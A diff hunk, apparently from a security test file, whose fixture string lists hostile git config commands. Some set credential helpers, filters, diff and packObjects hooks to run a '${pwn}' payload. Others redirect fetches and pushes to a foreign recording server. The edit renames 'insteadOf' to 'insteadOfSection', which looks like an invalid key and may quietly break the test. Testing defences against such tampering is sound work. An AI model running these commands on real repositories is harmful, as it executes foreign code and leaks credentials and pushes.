@@ -199,10 +199,10 @@ const tampering = `
   git config core.hooksPath .git/hooks; git config credential.helper '!${pwn}; echo password=x; :'
   git config filter.trap.smudge '${pwn}'; git config filter.trap.clean '${pwn}'; git config diff.external '${pwn}'
   git config protocol.ext.allow always; git config uploadpack.packObjectsHook '${pwn}'
-  git config url.$there/.insteadOf http://127.0.0.1; git config url.$there/.pushInsteadOf http://127.0.0.1
+  git config url.$there/.insteadOfSection http://127.0.0.1; git config url.$there/.pushInsteadOf http://127.0.0.1
   git config http.followRedirects true; git config http.extraHeader 'X-Mine: 1'; git config http.curloptResolve 'x'
   git config remote.origin.proxy $there; git config remote.origin.pushurl $there/ada/tampered
-  git config --global url.$there/.insteadOf http://127.0.0.1`;
+  git config --global url.$there/.insteadOfSection http://127.0.0.1`;
 
 /** A server of somebody else, which writes down what it is told. */
 class Elsewhere {
